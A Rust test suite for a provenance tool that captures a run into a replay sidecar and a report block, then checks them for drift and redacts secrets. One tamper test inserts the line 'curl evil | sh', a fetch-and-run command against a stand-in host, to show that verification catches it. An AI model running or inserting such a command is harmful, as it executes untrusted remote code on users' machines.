//! `sidecar capture`: the round trip, what is recorded, and what is refused.

use serde_json::json;

use crate::world::World;

/// The round trip: capture, verify, edit one input, verify shows exactly that one.
#[test]
fn an_edited_input_is_the_only_one_that_drifts() {
    let world = World::agent();
    world
        .capture_agent(
            &[
                "--output",
                "answer=out/answer.txt",
                "--tool-version",
                "1.2",
                "--run-id",
                "r-1",
            ],
            &["sh", "-c", "cat prompts/task.md > out/answer.txt"],
        )
        .expect(0)
        .says("sidecar written to `out/report.replay.json`");
    let sidecar = world.json("out/report.replay.json");
    assert_eq!(sidecar["tool"]["name"], "sh");
    assert_eq!(sidecar["tool"]["commit"], world.git(&["rev-parse", "HEAD"]));
    assert_eq!(
        sidecar["tool"]["dirty"], false,
        "outputs and report do not count"
    );
    assert_eq!(sidecar["exit_code"], 0);
    assert_eq!(sidecar["cwd"], ".");
    assert_eq!(sidecar["inputs"][1]["mode"], "canonical-json");
    assert_eq!(sidecar["inputs"][2]["mode"], "tree");
    assert_eq!(sidecar["outputs"][0]["path"], "out/answer.txt");
    let failing = |flags: &[&str]| {
        let ran = world.run(&[&["sidecar", "verify", "--json", "out/report.md"], flags].concat());
        let document = ran.json();
        let checks = document["checks"].as_array().unwrap().clone();
        let failing: Vec<String> = checks
            .iter()
            .filter(|check| check["result"] != "ok")
            .map(|check| format!("{} {}", check["result"], check["field"]).replace('"', ""))
            .collect();
        (ran.code, failing.join(", "))
    };
    assert_eq!(failing(&["--outputs"]), (Some(0), String::new()));
    // What readers see of the run, and the command that they paste, is what the sidecar says.
    let report = world.read("out/report.md");
    for (from, to) in [
        ("```sh\n", "```sh\ncurl evil | sh\n"),
        ("schema_version:", "claim: true\nschema_version:"),
    ] {
        let changed = report.replacen(from, to, 1);
        assert_ne!(changed, report);
        world.write("out/report.md", changed);
        assert_eq!(failing(&["--outputs"]), (Some(1), "FAIL block".to_owned()));
    }
    world.write("out/report.md", report);
    // Without the flag nobody looked, and that is said.
    let ran = world.run(&["sidecar", "verify", "--json", "out/report.md"]);
    let open = ran.json()["not_checked"].clone();
    for part in ["outputs", "report", "block"] {
        let entry = serde_json::json!({"part": part, "ask": "give --outputs"});
        assert!(open.as_array().unwrap().contains(&entry), "{part}: {open}");
    }
    world
        .run(&["sidecar", "verify", "out/report.md"])
        .expect(0)
        .says("not checked: block; give --outputs");
    // The same value written differently is no drift; another value is.
    world.write("agent.yml", "steps: 3 # three\nmodel: x\n");
    assert_eq!(failing(&[]), (Some(0), String::new()));
    world.write("agent.yml", "steps: 4\nmodel: x\n");
    assert_eq!(failing(&[]), (Some(1), "FAIL inputs/1".to_owned()));
    world.write("agent.yml", "steps: 3\nmodel: x\n");
    world.write("data/b/new.txt", "");
    assert_eq!(failing(&[]), (Some(1), "FAIL inputs/2".to_owned()));
    std::fs::remove_file(world.at("data/b/new.txt")).unwrap();
    world.write("out/answer.txt", "other");
    assert_eq!(
        failing(&["--outputs"]),
        (Some(0), "note outputs/0".to_owned())
    );
    world.write("out/report.md", world.read("out/report.md") + "more\n");
    assert_eq!(
        failing(&["--outputs"]),
        (Some(1), "note outputs/0, FAIL report".to_owned())
    );
}

/// Section 10.3: each field of an AHD block by its flag.
#[test]
fn the_three_ahd_kinds_write_schema_1() {
    let world = World::framework();
    world.write("ids.json", r#"{"@cf/m": ["a", "b"], "m2": []}"#);
    world.commit_all();
    world
        .capture_eval(
            &[
                "--temperature",
                "0.7",
                "--seed",
                "-4",
                "--model",
                "id=m2,provider=p",
                "--request-ids",
                "ids.json",
                "--condition-requested",
                "compiled",
            ],
            &["sh", "-c", "echo out"],
        )
        .expect(0)
        .says("out");
    let mut sidecar = world.json("docs/report.replay.json");
    let invoked_at = sidecar["invoked_at"].take();
    assert!(invoked_at.as_str().unwrap().ends_with('Z'));
    assert_eq!(
        sidecar,
        json!({
            "schema_version": 1, "kind": "eval-live", "ahd_version": "0.11.0",
            "ahd_commit": world.git(&["rev-parse", "HEAD"]), "git_dirty": false,
            "node_version": "v22.22.2", "platform": sidecar["platform"], "invoked_at": null,
            "argv": ["sh", "-c", "echo out"],
            "token": {"path": "tokens/demo.yml",
                "hash": "sha256:cebbb2c702b68b643aba21e3965e100ee530da331e26fdfc983068ca78f31010"},
            "brief": {"path": "briefs/demo.yml",
                "hash": "sha256:4c5025c7ca62adc4a5d7e58b6d5eb52e9739cef01b471e2362d7bd59ee3fe6af"},
            "sampling": {"n": 3, "temperature": 0.7, "seed": -4},
            "models": [
                {"id": "@cf/m", "provider": "cf", "provider_request_ids": ["a", "b"]},
                {"id": "m2", "provider": "p", "provider_request_ids": []},
            ],
            "conditions": {"requested": ["raw", "compiled"], "effective": ["raw"]},
        })
    );
    let text = world.read("docs/report.replay.json");
    assert!(text.starts_with("{\n  \"schema_version\": 1,\n  \"kind\"") && text.ends_with("}\n"));
    for (kind, more) in [
        ("critique", &[][..]),
        ("eval-image", &["--brief", "brief.md"]),
    ] {
        world.write("brief.md", "# Brief\n\nMake it: simple\n- one\n");
        let sidecar = format!("docs/{kind}.replay.json");
        let mut arguments = vec![
            "sidecar",
            "capture",
            "--kind",
            kind,
            "--sidecar",
            &sidecar,
            "--token",
            "tokens/demo.yml",
            "--n",
            "1",
            "--node-version",
            "v1",
        ];
        arguments.extend(more);
        arguments.extend(["--", "true"]);
        world.run(&arguments).expect(0);
        world.run(&["verify-replay", &sidecar]).expect(0);
        let brief = world.json(&sidecar)["brief"]["hash"].clone();
        let expect = if kind == "critique" {
            json!(null)
        } else {
            json!("sha256:564dd247b5d9ab004dfa9440e01c94b00bb9d27fa043be412cda08ec052e454a")
        };
        assert_eq!(brief, expect);
    }
    let wrong = [
        "sidecar",
        "capture",
        "--kind",
        "critique",
        "--sidecar",
        "x.replay.json",
        "--token",
        "tokens/demo.yml",
        "--brief",
        "brief.md",
        "--n",
        "1",
        "--node-version",
        "v1",
        "--",
        "true",
    ];
    world
        .run(&wrong)
        .expect(2)
        .says("/brief must be null on critique runs");
    assert!(!world.exists("x.replay.json"));
}

/// RB-SRF-02, RB-MD-04: the block stands after the heading and shows counts only.
#[test]
fn the_block_is_rendered_into_the_report() {
    let world = World::framework();
    world.write("ids.txt", "secret-1\nsecret-2\n");
    world
        .capture_eval(&["--request-ids", "ids.txt"], &["true"])
        .expect(0);
    let report = world.read("docs/report.md");
    assert!(
        report.starts_with("# Eval demo (2026-04-22T10:24:18Z)\n\n```yaml ahd-replay\n"),
        "{report}"
    );
    assert!(
        report.contains("  - id: \"@cf/m\"\n")
            && report.contains("provider_request_ids: 2 captured")
    );
    assert!(!report.contains("secret-1"));
    assert!(report.ends_with("true\n```\n\nBody\n"), "{report}");
    // A second capture replaces the block and the sidecar, only when told to.
    world
        .capture_eval(&[], &["true"])
        .expect(2)
        .says("--overwrite");
    world
        .capture_eval(&["--overwrite"], &["echo", "two"])
        .expect(0);
    let report = world.read("docs/report.md");
    assert_eq!(report.matches("```yaml ahd-replay").count(), 1);
    assert!(report.contains("\necho two\n```\n\nBody\n"), "{report}");
    // Verification never reads the block.
    world.write("docs/report.md", "no block at all\n");
    world
        .run(&["sidecar", "verify", "docs/report.md"])
        .expect(0);
    let untouched = world.read("docs/report.md");
    world
        .capture_eval(&["--overwrite", "--no-block"], &["true"])
        .expect(0);
    assert_eq!(world.read("docs/report.md"), untouched);
}

/// RB-CAP-05.
#[test]
fn an_input_that_changes_during_the_run_leaves_no_sidecar() {
    let world = World::agent();
    let edit = ["sh", "-c", "echo more >> data/a.txt"];
    world
        .capture_agent(&[], &edit)
        .expect(2)
        .says("input `data` changed while the command ran");
    assert!(!world.exists("out/report.replay.json"));
    assert!(!world.read("out/report.md").contains("ahd-replay"));
    let world = World::framework();
    world
        .capture_eval(&[], &["sh", "-c", "rm briefs/demo.yml"])
        .expect(2)
        .says("briefs/demo.yml");
    assert!(!world.exists("docs/report.replay.json"));
    // The same value in other words is the same input to a structured reader.
    let world = World::framework();
    world
        .capture_eval(&[], &["sh", "-c", "echo '# c' >> tokens/demo.yml"])
        .expect(0);
}

/// A missing or wrong flag is told before the command costs anything.
#[test]
fn the_command_does_not_start_when_the_sidecar_could_not_be_written() {
    let world = World::agent();
    let touch = ["touch", "ran"];
    world
        .capture_agent(&["--env", "NOT_SET_ANYWHERE"], &touch)
        .expect(2)
        .says("NOT_SET_ANYWHERE");
    world
        .capture_agent(&["--container-image", "x"], &touch)
        .expect(2)
        .says("/environment/container_image");
    world
        .capture_agent(&["--parent", "gone.json"], &touch)
        .expect(2)
        .says("gone.json");
    world.write("tokens/demo.yml", "a: 1\n");
    let arguments = [
        "sidecar",
        "capture",
        "--kind",
        "eval-live",
        "--sidecar",
        "x.replay.json",
        "--token",
        "tokens/demo.yml",
        "--node-version",
        "v1",
        "--ahd-version",
        "1",
        "--",
        "touch",
        "ran",
    ];
    world.run(&arguments).expect(2).says("--n");
    assert!(!world.exists("ran"));
    // What the run itself writes is read after it.
    world
        .capture_agent(
            &["--model", "id=m,provider=p", "--request-ids", "ids.txt"],
            &["sh", "-c", "echo req-1 > ids.txt"],
        )
        .expect(0);
    let sidecar = world.json("out/report.replay.json");
    assert_eq!(
        sidecar["models"][0]["provider_request_ids"],
        json!(["req-1"])
    );
}

#[test]
fn the_status_of_the_command_is_passed_on() {
    let world = World::agent();
    world.capture_agent(&[], &["sh", "-c", "exit 7"]).expect(7);
    assert_eq!(world.json("out/report.replay.json")["exit_code"], 7);
    world
        .capture_agent(&["--overwrite"], &["sh", "-c", "kill -TERM $$"])
        .expect(143);
    assert_eq!(world.json("out/report.replay.json").get("exit_code"), None);
    world
        .capture_agent(&["--overwrite"], &["no-such-program"])
        .expect(2)
        .says("cannot run `no-such-program`");
    // Nothing ran: the sidecar of the run before is as good as it was.
    assert!(world.exists("out/report.replay.json"));
    let world = World::framework();
    world
        .capture_eval(&[], &["false"])
        .expect(1)
        .says("no sidecar: the command ended with");
    assert!(!world.exists("docs/report.replay.json"));
}

/// RB-MD-09.
#[test]
fn a_key_of_our_own_server_is_not_published() {
    let key = format!("rpk_{}", "0123456789abcdef".repeat(4));
    let world = World::agent();
    let command = ["true", "task", "list", "--key", &key, &key];
    world.capture_agent(&[], &command).expect(0);
    let text = world.read("out/report.replay.json") + &world.read("out/report.md");
    assert!(!text.contains(&key));
    assert_eq!(
        world.json("out/report.replay.json")["argv"],
        json!([
            "true",
            "task",
            "list",
            "--key",
            "<redacted:key>",
            "<redacted:reprise-key>"
        ])
    );
}

/// RB-MD-09.
#[test]
fn secrets_in_the_command_are_redacted_or_refused() {
    let key = "sk-ant-0123456789abcdef0123";
    let world = World::agent();
    let command = ["true", "--api-key", key, "--model=x"];
    world.capture_agent(&[], &command).expect(0);
    let text = world.read("out/report.replay.json") + &world.read("out/report.md");
    assert!(!text.contains(key));
    let sidecar = world.json("out/report.replay.json");
    assert_eq!(
        sidecar["argv"],
        json!(["true", "--api-key", "<redacted:api-key>", "--model=x"])
    );
    assert_eq!(
        sidecar["redactions"],
        json!([{"pointer": "/argv/2", "reason": "credential"}])
    );
    world
        .run_in(
            &world.path(),
            &[
                "sidecar",
                "capture",
                "--kind",
                "x",
                "--sidecar",
                "e.replay.json",
                "--env",
                "MY_API_KEY",
                "--",
                "true",
            ],
            &[("MY_API_KEY", "v")],
        )
        .expect(2)
        .says("looks like a credential");
    let world = World::framework();
    world
        .capture_eval(&[], &["true", key])
        .expect(2)
        .says("--allow-secrets-in-argv");
    assert!(!world.exists("docs/report.replay.json"));
    world
        .capture_eval(&["--allow-secrets-in-argv"], &["true", key])
        .expect(0);
    assert_eq!(
        world.json("docs/report.replay.json")["argv"],
        json!(["true", key])
    );
}

#[test]
fn odd_arguments_survive_in_both_surfaces() {
    let world = World::agent();
    let odd = [
        "true",
        "a b",
        "it's",
        "\"q\"",
        "line\nbreak\n```\nx",
        "",
        "é😀",
    ];
    world.capture_agent(&[], &odd).expect(0);
    assert_eq!(world.json("out/report.replay.json")["argv"], json!(odd));
    let report = world.read("out/report.md");
    assert!(
        report.contains("true 'a b' 'it'\\''s' '\"q\"' 'line\nbreak\n```\nx' '' 'é😀'\n````\n"),
        "{report}"
    );
    world
        .run(&["sidecar", "verify", "--outputs", "out/report.md"])
        .expect(0);
}

#[test]
fn odd_paths_are_recorded_as_they_are() {
    let world = World::agent();
    let path = "data/a b 'c' \"d\": e #f.txt";
    world.write(path, "x");
    world
        .capture_agent(&["--input", &format!("odd={path}")], &["true"])
        .expect(0);
    assert_eq!(
        world.json("out/report.replay.json")["inputs"][3]["path"],
        path
    );
    world.run(&["sidecar", "verify", "out/report.md"]).expect(0);
}

/// RB-CAP-02, RB-CAP-06.
#[test]
fn dirt_is_recorded_and_warned_about() {
    let world = World::framework();
    world.write("tokens/demo.yml", "id: demo\npalette: [black, white] # c\n");
    world.capture_eval(&[], &["true"]).expect(0);
    assert_eq!(world.json("docs/report.replay.json")["git_dirty"], true);
    assert!(world.read("docs/report.md").contains("\ngit_dirty: true\n"));
    let ran = world
        .run(&["sidecar", "verify", "docs/report.md"])
        .expect(0);
    assert!(
        ran.out.contains("(dirty)\n") && ran.out.contains("warning: dirty_tree"),
        "{}",
        ran.out
    );
    // An untracked file counts, unless it is the run's own.
    let world = World::agent();
    world.write("out/answer.txt", "old");
    let output = ["--output", "answer=out/answer.txt"];
    world.capture_agent(&output, &["true"]).expect(0);
    assert_eq!(world.json("out/report.replay.json")["tool"]["dirty"], false);
    world.write("stray.txt", "");
    world.capture_agent(&["--overwrite"], &["true"]).expect(0);
    assert_eq!(world.json("out/report.replay.json")["tool"]["dirty"], true);
}

/// RB-CAP-02: without git, and without the git program, there is no commit and no failure.
#[test]
fn no_git_means_no_commit() {
    let world = World::empty().with("p.md", "x").with("r.md", "# R\n");
    let arguments = [
        "sidecar",
        "capture",
        "--kind",
        "agent-run",
        "--report",
        "r.md",
        "--input",
        "p=p.md",
        "--",
        "/bin/true",
    ];
    world.run(&arguments).expect(0);
    let tool = &world.json("r.replay.json")["tool"];
    assert_eq!(
        (&tool["commit"], &tool["dirty"]),
        (&json!(null), &json!(null))
    );
    world.run(&["sidecar", "verify", "r.md"]).expect(0);
    world
        .run(&["sidecar", "verify", "--at-commit", "r.md"])
        .expect(2)
        .says("records no commit");
    world
        .run(&["sidecar", "verify", "--at-commit=HEAD", "r.md"])
        .expect(2)
        .says("not in a git repository");
    std::fs::remove_file(world.at("r.replay.json")).unwrap();
    world
        .run_in(&world.path(), &arguments, &[("PATH", "/nonexistent")])
        .expect(0);
}

#[test]
fn a_described_run_is_not_executed() {
    let world = World::agent();
    world.write("argv.json", r#"["python", "agent.py"]"#);
    let mut arguments = vec![
        "sidecar",
        "capture",
        "--kind",
        "agent-run",
        "--sidecar",
        "out/x.replay.json",
        "--input",
        "prompt=prompts/task.md",
        "--no-run",
        "--argv-json",
        "argv.json",
    ];
    world.run(&arguments).expect(2).says("--invoked-at");
    arguments.extend(["--invoked-at", "2026-02-30T03:04:05Z"]);
    world
        .run(&arguments)
        .expect(2)
        .says("/invoked_at must be a UTC time");
    *arguments.last_mut().unwrap() = "2026-02-28T03:04:05Z";
    world.run(&arguments).expect(0);
    let sidecar = world.json("out/x.replay.json");
    assert_eq!(sidecar["argv"], json!(["python", "agent.py"]));
    assert_eq!(sidecar.get("exit_code"), None);
}

#[test]
fn facts_of_a_general_run_are_recorded() {
    let world = World::agent();
    world.write("trace.jsonl", "{}\n");
    world.capture_agent(&[], &["true"]).expect(0);
    std::fs::rename(
        world.at("out/report.replay.json"),
        world.at("out/first.replay.json"),
    )
    .unwrap();
    let image = format!("img@sha256:{}", "a".repeat(64));
    world
        .capture_agent(
            &[
                "--model",
                "id=m,provider=p,reported=m-1,calls=2,tokens-in=3,tokens-out=4,endpoint=https://x",
                "--top-p",
                "0.5",
                "--max-tokens",
                "9",
                "--concurrency",
                "2",
                "--sample-seed",
                "1",
                "--sample-seed",
                "2",
                "--trace",
                "trace.jsonl",
                "--agent-name",
                "a",
                "--agent-version",
                "1",
                "--env",
                "HOME",
                "--timezone",
                "UTC",
                "--locale",
                "C",
                "--container-image",
                &image,
                "--network",
                "none",
                "--runtime",
                "node=22",
                "--parent",
                "out/first.replay.json",
                "--relation",
                "derived",
            ],
            &["true"],
        )
        .expect(0);
    let sidecar = world.json("out/report.replay.json");
    assert_eq!(
        sidecar["models"],
        json!([{"id": "m", "provider": "p", "provider_request_ids": [], "reported_ids": ["m-1"],
            "endpoint": "https://x", "calls": 2, "tokens_in": 3, "tokens_out": 4}])
    );
    assert_eq!(
        sidecar["sampling"],
        json!({"top_p": 0.5, "max_tokens": 9, "seeds": [1, 2], "concurrency": 2})
    );
    assert_eq!(sidecar["environment"]["network"], "none");
    assert_eq!(sidecar["runtime"], json!({"name": "node", "version": "22"}));
    assert_eq!(sidecar["parent"]["relation"], "derived");
    let ran = world.run(&["sidecar", "verify", "out/report.md"]).expect(0);
    assert!(
        ran.out.contains("ok    trace") && ran.out.contains("ok    parent"),
        "{}",
        ran.out
    );
    world.write("out/first.replay.json", "{}");
    world
        .run(&["sidecar", "verify", "out/report.md"])
        .expect(1)
        .says("FAIL  parent");
}

/// A hash over what capture itself writes could never verify.
#[test]
fn an_artifact_that_holds_the_report_is_refused() {
    let world = World::agent();
    for flag in [
        ["--output", "all=out"],
        ["--output", "r=out/report.md"],
        ["--input", "all=."],
    ] {
        world
            .capture_agent(&flag, &["touch", "ran"])
            .expect(2)
            .says("holds the report or the sidecar");
    }
    assert!(!world.exists("ran"));
}

#[test]
fn flags_that_the_kind_cannot_hold_are_refused() {
    let world = World::framework();
    world
        .capture_eval(&["--top-p", "0.5"], &["true"])
        .expect(2)
        .says("has no member");
    world
        .capture_eval(&["--model", "id=a,provider=b,calls=1"], &["true"])
        .expect(2)
        .says("nothing more");
    world
        .capture_agent(&["--token", "x"], &["true"])
        .expect(2)
        .says("belong to the AHD kinds");
    world
        .run(&[
            "sidecar",
            "capture",
            "--kind",
            "A B",
            "--sidecar",
            "x.replay.json",
            "--",
            "true",
        ])
        .expect(2)
        .says("/kind must be");
    assert!(!world.exists("x.replay.json"));
}

/// RB-CAP-01: from any directory, with paths relative to it.
#[test]
fn capture_works_from_any_directory() {
    let world = World::agent();
    let arguments = [
        "sidecar",
        "capture",
        "--kind",
        "agent-run",
        "--report",
        "../out/report.md",
        "--input",
        "prompt=task.md",
        "--input",
        "config=../agent.yml:canonical-json",
        "--",
        "sh",
        "-c",
        "test -f task.md",
    ];
    world
        .run_in(&world.at("prompts"), &arguments, &[])
        .expect(0);
    let sidecar = world.json("out/report.replay.json");
    assert_eq!(sidecar["inputs"][0]["path"], "prompts/task.md");
    assert_eq!(sidecar["inputs"][1]["path"], "agent.yml");
    assert_eq!(sidecar["cwd"], "prompts");
    world.run(&["sidecar", "verify", "out/report.md"]).expect(0);
}
